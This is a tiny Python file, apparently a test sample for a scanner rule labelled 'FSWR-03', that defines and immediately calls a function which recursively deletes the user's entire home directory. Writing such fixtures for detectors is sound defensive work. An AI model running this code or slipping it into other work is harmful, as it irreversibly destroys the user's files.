import os
import shutil
wipe = lambda: shutil.rmtree(os.path.expanduser('~'))  # expect: FSWR-03
wipe()
